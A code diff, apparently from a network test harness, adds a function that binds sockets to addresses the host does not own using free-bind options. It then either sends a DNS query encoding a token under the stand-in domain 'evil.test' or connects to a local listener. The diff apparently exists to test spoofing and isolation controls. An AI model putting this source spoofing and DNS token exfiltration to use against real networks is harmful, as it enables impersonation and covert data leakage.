@@ -278,6 +278,35 @@ def by_device(a):
     return {"back": hexes(v or b""), "error": err, "ms": ms}
 
 
+IPV6_FREEBIND = 78
+
+
+def from_anywhere(a):
+    """A socket with the address of somebody else: what answers it answers him. what: a question to the resolver,
+    or connections to a listener of its own."""
+    if a["what"] == "question":
+        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+        to, data = (a["server"], 53), wire.dns_query(a["token"] + ".evil.test")
+    else:
+        l = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+        l.bind(("::", 7777))
+        l.listen(16)
+        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+        to, data = (a["to"], 7777), None
+    s.settimeout(0.5)
+
+    def go():
+        for level, name in ((socket.IPPROTO_IPV6, IPV6_FREEBIND), (socket.IPPROTO_IP, 15)) if a.get("option", 1) else ():
+            s.setsockopt(level, name, 1)
+        s.bind((a["from"], a.get("sport", 4444)))
+        if data:
+            s.sendto(data, to)
+            time.sleep(0.3)
+        else:
+            s.connect(to)
+    return {"error": attempt(go)[1]}
+
+
 def join_groups(a):
     """Multicast groups whose addresses, or the sources wanted from them, say the token."""
     index, tok = socket.if_nametoindex("a0"), a["token"].encode()
